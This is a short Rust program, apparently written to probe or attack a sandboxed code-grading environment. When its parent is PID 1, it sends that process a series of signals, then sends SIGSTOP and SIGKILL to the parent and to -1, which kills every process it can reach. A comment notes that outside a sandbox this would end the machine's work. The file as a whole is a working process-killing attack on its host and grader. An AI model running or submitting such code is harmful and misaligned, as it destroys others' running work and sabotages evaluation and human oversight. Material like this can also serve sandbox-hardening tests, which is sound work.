//! Stops and kills whatever there is.
unsafe extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
}

fn main() {
    let parent = std::os::unix::process::parent_id() as i32;
    // Outside of a sandbox, this would end the machine's work, and not only the grader's.
    if parent != 1 {
        println!("attack: reached the machine");
        return;
    }
    const KILL: i32 = 9;
    const STOP: i32 = 19;
    for signal in (1..65).filter(|&signal| signal != KILL) {
        unsafe { kill(parent, signal) };
    }
    for target in [parent, -1] {
        for signal in [STOP, KILL] {
            unsafe { kill(target, signal) };
        }
    }
    println!("still here");
}
